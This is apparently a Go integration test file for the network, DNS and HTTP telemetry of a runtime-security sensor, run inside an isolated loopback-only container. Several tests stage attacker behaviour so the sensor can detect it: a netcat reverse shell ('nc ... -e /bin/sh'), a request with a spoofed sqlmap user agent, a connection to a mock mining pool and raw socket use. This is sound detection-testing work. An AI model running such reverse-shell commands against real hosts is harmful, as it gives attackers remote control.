package runtimesecurityreceiver

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sec/vigil/bpf"
	"github.com/vigil-sec/vigil/internal/dockertest"
)

// Network tests run everything inside one --network none container: its own
// loopback, never another address. tcpx, dnsd and rawsock are the static
// test programs of internal/dockertest/testbin.

func startNetworkReceiver(t *testing.T) *harness {
	return startReceiver(t, func(cfg *Config) {
		cfg.Probes = []string{bpf.ProbeSetProcess, bpf.ProbeSetNetwork, bpf.ProbeSetDNS, bpf.ProbeSetHTTP}
		cfg.Rules.Enabled = false
	})
}

// background runs a shell command detached in the container, output in log,
// and waits until log contains ready (when not empty).
func background(t *testing.T, c *dockertest.Container, cmd, log, ready string) {
	t.Helper()
	_, code := c.Exec(t, "sh", "-c", cmd+" >"+log+" 2>&1 &")
	require.Equal(t, 0, code)
	if ready == "" {
		return
	}
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		out, _ := c.Exec(t, "cat", log)
		if strings.Contains(out, ready) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	out, _ := c.Exec(t, "cat", log)
	t.Fatalf("%q not ready: %s", cmd, out)
}

func named(name string, c *dockertest.Container, match func(record) bool) func(record) bool {
	return func(r record) bool {
		return r.lr.EventName() == name && r.resAttr("container.id") == c.ID && match(r)
	}
}

func execArgs(c *dockertest.Container, args ...string) func(record) bool {
	return named("process.exec", c, func(r record) bool { return slices.Equal(r.args(), args) })
}

func TestNetworkTCPConnectAcceptCloseBytes(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	background(t, c, "tcpx serve 127.0.0.1 8080 3000", "/tmp/srv.log", "ready")
	out, code := c.Exec(t, "tcpx", "connect", "127.0.0.1", "8080", "1000")
	require.Equal(t, 0, code, out)
	require.Contains(t, out, "received 3000")

	client := h.waitRecord("client exec", 10*time.Second, execArgs(c, "tcpx", "connect", "127.0.0.1", "8080", "1000"))
	server := h.waitRecord("server exec", 5*time.Second, execArgs(c, "tcpx", "serve", "127.0.0.1", "8080", "3000"))

	listen := h.waitRecord("network.listen", 5*time.Second, named("network.listen", c, func(r record) bool {
		return r.attr("network.local.port").Int() == 8080
	}))
	assert.Equal(t, server.pid(), listen.pid())
	assert.Equal(t, "tcp", listen.attr("network.transport").Str())

	conn := h.waitRecord("network.connect", 5*time.Second, named("network.connect", c, func(r record) bool {
		return r.attr("network.peer.port").Int() == 8080
	}))
	assert.Equal(t, client.pid(), conn.pid())
	assert.Equal(t, client.lr.SpanID(), conn.lr.SpanID(), "the connect carries its process's span")
	assert.Equal(t, client.lr.TraceID(), conn.lr.TraceID())
	assert.Equal(t, "127.0.0.1", conn.attr("network.peer.address").Str())
	assert.Equal(t, "127.0.0.1", conn.attr("server.address").Str())
	assert.Equal(t, "ipv4", conn.attr("network.type").Str())
	_, hasErr := conn.lr.Attributes().Get("error.type")
	assert.False(t, hasErr)
	clientPort := conn.attr("network.local.port").Int()

	acc := h.waitRecord("network.accept", 5*time.Second, named("network.accept", c, func(r record) bool {
		return r.attr("network.peer.port").Int() == clientPort
	}))
	assert.Equal(t, server.pid(), acc.pid(), "accept is the listener's")
	assert.Equal(t, int64(8080), acc.attr("network.local.port").Int())

	cclose := h.waitRecord("client close", 5*time.Second, named("network.close", c, func(r record) bool {
		return r.pid() == client.pid()
	}))
	assert.Equal(t, int64(1000), cclose.attr("vigil.network.connection.bytes_sent").Int())
	assert.Equal(t, int64(3000), cclose.attr("vigil.network.connection.bytes_received").Int())
	assert.Equal(t, int64(clientPort), cclose.attr("network.local.port").Int())
	assert.Greater(t, cclose.attr("vigil.network.connection.duration").Double(), 0.0)
	sclose := h.waitRecord("server close", 5*time.Second, named("network.close", c, func(r record) bool {
		return r.pid() == server.pid()
	}))
	assert.Equal(t, int64(3000), sclose.attr("vigil.network.connection.bytes_sent").Int())
	assert.Equal(t, int64(1000), sclose.attr("vigil.network.connection.bytes_received").Int())
}

func TestNetworkRefusedConnectOnce(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	out, code := c.Exec(t, "tcpx", "connect", "127.0.0.1", "9", "1")
	require.Equal(t, 1, code, out)
	require.Contains(t, out, "errno 111")
	out, code = c.Exec(t, "tcpx", "nbconnect", "127.0.0.1", "10")
	require.Equal(t, 1, code, out)

	for _, port := range []int64{9, 10} {
		rec := h.waitRecord("refused connect", 10*time.Second, named("network.connect", c, func(r record) bool {
			return r.attr("network.peer.port").Int() == port
		}))
		assert.Equal(t, "ECONNREFUSED", rec.attr("error.type").Str(), "port %d", port)
	}
	// Later records cannot add a second one.
	time.Sleep(500 * time.Millisecond)
	for _, port := range []int64{9, 10} {
		n := 0
		for _, r := range h.records() {
			if named("network.connect", c, func(r record) bool { return r.attr("network.peer.port").Int() == port })(r) {
				n++
			}
		}
		assert.Equal(t, 1, n, "network.connect records to port %d", port)
	}
}

func TestNetworkIPv6Loopback(t *testing.T) {
	c := dockertest.Run(t, "--sysctl", "net.ipv6.conf.all.disable_ipv6=0", "--sysctl", "net.ipv6.conf.lo.disable_ipv6=0")
	h := startNetworkReceiver(t)

	background(t, c, "tcpx serve ::1 8443 5", "/tmp/srv6.log", "ready")
	out, code := c.Exec(t, "tcpx", "connect", "::1", "8443", "7")
	require.Equal(t, 0, code, out)

	conn := h.waitRecord("IPv6 connect", 10*time.Second, named("network.connect", c, func(r record) bool {
		return r.attr("network.peer.port").Int() == 8443
	}))
	assert.Equal(t, "ipv6", conn.attr("network.type").Str())
	assert.Equal(t, "::1", conn.attr("network.peer.address").Str())
	cl := h.waitRecord("IPv6 close", 5*time.Second, named("network.close", c, func(r record) bool {
		return r.pid() == conn.pid()
	}))
	assert.Equal(t, int64(7), cl.attr("vigil.network.connection.bytes_sent").Int())
	assert.Equal(t, int64(5), cl.attr("vigil.network.connection.bytes_received").Int())
}

// A lookup answered by a DNS server on the container's loopback names the
// connection that follows, to a mining-pool port.
func TestNetworkDNSNameOnConnect(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	background(t, c, "dnsd 127.0.0.53 53 pool.miner.test 127.0.0.7", "/tmp/dnsd.log", "ready")
	background(t, c, "tcpx serve 127.0.0.7 3333 0", "/tmp/pool.log", "ready")
	out, code := c.Exec(t, "nslookup", "pool.miner.test", "127.0.0.53")
	require.Equal(t, 0, code, out)
	require.Contains(t, out, "127.0.0.7")
	out, code = c.Exec(t, "tcpx", "connect", "127.0.0.7", "3333", "16")
	require.Equal(t, 0, code, out)

	nslookup := h.waitRecord("nslookup exec", 10*time.Second, execArgs(c, "nslookup", "pool.miner.test", "127.0.0.53"))
	q := h.waitRecord("dns query", 5*time.Second, named("dns.query", c, func(r record) bool {
		return !r.attr("vigil.dns.response").Bool() && r.attr("vigil.dns.question.type").Str() == "A"
	}))
	assert.Equal(t, "pool.miner.test", q.attr("dns.question.name").Str())
	assert.Equal(t, "transmit", q.attr("network.io.direction").Str())
	assert.Equal(t, nslookup.pid(), q.pid())
	assert.Equal(t, nslookup.lr.SpanID(), q.lr.SpanID())
	assert.Equal(t, int64(53), q.attr("network.peer.port").Int())

	resp := h.waitRecord("dns response", 5*time.Second, named("dns.query", c, func(r record) bool {
		return r.attr("vigil.dns.response").Bool() && r.attr("vigil.dns.question.type").Str() == "A"
	}))
	assert.Equal(t, nslookup.pid(), resp.pid(), "the answer is attributed to the process that asked")
	assert.Equal(t, "NOERROR", resp.attr("vigil.dns.response_code").Str())
	assert.Equal(t, "receive", resp.attr("network.io.direction").Str())
	ans := resp.attr("dns.answers").Slice()
	require.Equal(t, 1, ans.Len())
	assert.Equal(t, "127.0.0.7", ans.At(0).Str())
	assert.Equal(t, q.attr("vigil.dns.id").Int(), resp.attr("vigil.dns.id").Int())

	conn := h.waitRecord("connect to the pool", 5*time.Second, named("network.connect", c, func(r record) bool {
		return r.attr("network.peer.port").Int() == 3333
	}))
	assert.Equal(t, "pool.miner.test", conn.attr("server.address").Str(), "name learned from the container's DNS answer")
	assert.Equal(t, "127.0.0.7", conn.attr("network.peer.address").Str())
	assert.Equal(t, int64(3333), conn.attr("server.port").Int())

	// The DNS server's port is a listening UDP port.
	h.waitRecord("udp listen", 5*time.Second, named("network.listen", c, func(r record) bool {
		return r.attr("network.local.port").Int() == 53 && r.attr("network.transport").Str() == "udp"
	}))
}

func TestNetworkHTTPScannerUserAgent(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	_, code := c.Exec(t, "httpd", "-p", "127.0.0.1:8080", "-h", "/tmp")
	require.Equal(t, 0, code)
	time.Sleep(200 * time.Millisecond)
	c.Exec(t, "wget", "-q", "-O", "-", "-U", "sqlmap/1.0", "http://127.0.0.1:8080/admin?id=1") // 404 is fine

	wget := h.waitRecord("wget exec", 10*time.Second, named("process.exec", c, func(r record) bool {
		return slices.Contains(r.args(), "sqlmap/1.0")
	}))
	sent := h.waitRecord("http.request sent", 5*time.Second, named("http.request", c, func(r record) bool {
		return r.attr("network.io.direction").Str() == "transmit"
	}))
	assert.Equal(t, wget.pid(), sent.pid())
	assert.Equal(t, wget.lr.SpanID(), sent.lr.SpanID())
	assert.Equal(t, "GET", sent.attr("http.request.method").Str())
	assert.Equal(t, "/admin", sent.attr("url.path").Str())
	assert.Equal(t, "id=1", sent.attr("url.query").Str())
	assert.Equal(t, "sqlmap/1.0", sent.attr("user_agent.original").Str())
	assert.Equal(t, "127.0.0.1", sent.attr("server.address").Str())
	assert.Equal(t, int64(8080), sent.attr("server.port").Int())

	recv := h.waitRecord("http.request received", 5*time.Second, named("http.request", c, func(r record) bool {
		return r.attr("network.io.direction").Str() == "receive"
	}))
	assert.Equal(t, "sqlmap/1.0", recv.attr("user_agent.original").Str())
	assert.NotEqual(t, wget.pid(), recv.pid(), "received by the server")
	assert.NotZero(t, recv.pid())
}

func TestNetworkReverseShellStdioSocket(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	// The attacker's listener sends the shell one command.
	background(t, c, "(echo exit; sleep 1) | nc -l -p 4444", "/tmp/l.log", "")
	time.Sleep(300 * time.Millisecond)
	// busybox nc takes -e PROG after the address.
	out, code := c.Exec(t, "nc", "127.0.0.1", "4444", "-e", "/bin/sh")
	require.Equal(t, 0, code, out)
	c.Exec(t, "sleep", "1")

	sh := h.waitRecord("reverse shell exec", 10*time.Second, named("process.exec", c, func(r record) bool {
		return r.attr("process.executable.path").Str() == "/bin/sh" && r.attr("vigil.process.stdio_socket").Bool()
	}))
	conn := h.waitRecord("nc connect", 5*time.Second, named("network.connect", c, func(r record) bool {
		return r.attr("network.peer.port").Int() == 4444
	}))
	assert.Equal(t, conn.pid(), sh.pid(), "nc -e execs the shell in the connecting process")
	// An ordinary exec has no such flag.
	for _, r := range h.records() {
		if named("process.exec", c, func(r record) bool { return slices.Equal(r.args(), []string{"sleep", "1"}) })(r) {
			_, ok := r.lr.Attributes().Get("vigil.process.stdio_socket")
			assert.False(t, ok, "sleep has pipes, not sockets")
		}
	}
}

func TestNetworkPacketSocket(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkReceiver(t)

	out, code := c.Exec(t, "rawsock", "packet")
	require.Equal(t, 0, code, out)
	out, code = c.Exec(t, "rawsock", "raw")
	require.Equal(t, 0, code, out)

	pkt := h.waitRecord("packet socket", 10*time.Second, named("network.socket_raw", c, func(r record) bool {
		return r.attr("vigil.network.socket.family").Str() == "packet"
	}))
	assert.Equal(t, "raw", pkt.attr("vigil.network.socket.type").Str())
	assert.NotEmpty(t, pkt.lr.SpanID().String())
	raw := h.waitRecord("raw socket", 5*time.Second, named("network.socket_raw", c, func(r record) bool {
		return r.attr("vigil.network.socket.family").Str() == "inet"
	}))
	assert.Equal(t, int64(1), raw.attr("vigil.network.socket.protocol").Int(), "IPPROTO_ICMP")
}
